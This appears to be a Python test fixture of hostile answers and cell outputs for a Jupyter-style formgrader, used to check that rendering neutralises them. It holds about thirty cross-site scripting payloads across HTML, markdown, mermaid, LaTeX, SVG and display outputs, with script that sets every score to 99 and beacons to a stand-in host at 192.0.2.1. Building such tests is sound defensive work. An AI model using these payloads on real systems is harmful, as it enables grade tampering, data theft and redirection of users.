"""Answers that try to do something on the page that shows them: run a script, fetch from elsewhere, lead away, or change a mark."""

from __future__ import annotations

import base64

# What each of them does if it runs: it says so in the page, gives full marks through the formgrader's own interface, and calls elsewhere.
DO = (
    "window.hostile=(window.hostile||0)+1;"
    "fetch('/formgrader/api/submission_list').catch(()=>0);"
    "document.querySelectorAll('input.score').forEach(i=>{i.value=99;i.dispatchEvent(new Event('change'))});"
    "new Image().src='http://192.0.2.1/stolen'"
)
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{DO}\"><script>{DO}</script></svg>"
_SVG64 = base64.b64encode(_SVG.encode()).decode()
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

ANSWERS = (
    f"<script>{DO}</script>",
    f'<img src=x onerror="{DO}">',
    "<img src='http://192.0.2.1/pixel.png'>",
    "![a picture](http://192.0.2.1/pixel.png)",
    f"[click me](javascript:{DO})",
    f'<a href="javascript:{DO}">click me</a>',
    f'<svg onload="{DO}"></svg>',
    f'<iframe srcdoc="<script>{DO}</script>"></iframe>',
    "<iframe src='http://192.0.2.1/'></iframe>",
    "<meta http-equiv='refresh' content='0;url=http://192.0.2.1/'>",
    "```mermaid\n</pre><meta http-equiv='refresh' content='0;url=http://192.0.2.1/'><style>.score{color:red}</style>\n```",
    f"```mermaid\n</pre><script>{DO}</script>\n```",
    f'```"><script>{DO}</script>\ncode\n```',
    "<style>@import 'http://192.0.2.1/style.css'; body{display:none}</style>",
    "<link rel=stylesheet href='http://192.0.2.1/style.css'>",
    "<base href='http://192.0.2.1/'>",
    f"<form action='http://192.0.2.1/'><button formaction=\"javascript:{DO}\">Full credit</button></form>",
    f"<object data='data:image/svg+xml;base64,{_SVG64}'></object>",
    f"<embed src='data:image/svg+xml;base64,{_SVG64}'>",
    f'![an attachment](attachment:missing.png" onerror="{DO}")',
    f"![a drawing](data:image/svg+xml;base64,{_SVG64})",
    f"$$\\href{{javascript:{DO}}}{{x}}$$",
    f"$\\style{{background:url(http://192.0.2.1/)}}{{x}}$ and $</span><script>{DO}</script>$",
    f"\\begin{{equation}}</script><script>{DO}</script>\\end{{equation}}",
    f'| a | b |\n|---|---|\n| <script>{DO}</script> | <img src=x onerror="{DO}"> |',
    f'# A heading <script>{DO}</script>\n\n## <img src=x onerror="{DO}">',
    f'<details open ontoggle="{DO}"><summary>more</summary></details>',
    f'<input autofocus onfocus="{DO}"><textarea autofocus onfocus="{DO}"></textarea>',
    f'<video><source onerror="{DO}"></video><audio src=x onerror="{DO}"></audio>',
    f'<!-- --!><script>{DO}</script> --><div style="background:url(http://192.0.2.1/)" onmouseover="{DO}">here</div>',
)

# What a solution cell may show beside its answer.
OUTPUTS = f"""
from IPython.display import display
payload = {DO!r}
for data in (
    {{"text/html": "<script>" + payload + "</script><img src='http://192.0.2.1/x.png' onerror=\\"" + payload + "\\">"}},
    {{"text/html": "<div style='background:url(http://192.0.2.1/)'><a href='http://192.0.2.1/'>away</a></div>"}},
    {{"image/svg+xml": {_SVG!r}}},
    {{"application/javascript": payload}},
    {{"image/png": "x\\" onerror=\\"" + payload}},
    {{"text/markdown": "<script>" + payload + "</script> ```mermaid\\n<script>" + payload + "</script>\\n```"}},
    {{"text/latex": "$\\\\href{{javascript:" + payload + "}}{{x}}$"}},
    {{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script><script>" + payload + "</script>"}}}},
):
    about = {{"width": "1 onload=" + payload, "alt": "\\" onerror=\\"" + payload, "isolated": True}}
    display(data, raw=True, metadata={{kind: about for kind in data}})
print("</pre><script>" + payload + "</script>")
raise ValueError("</pre><script>" + payload + "</script>")
"""
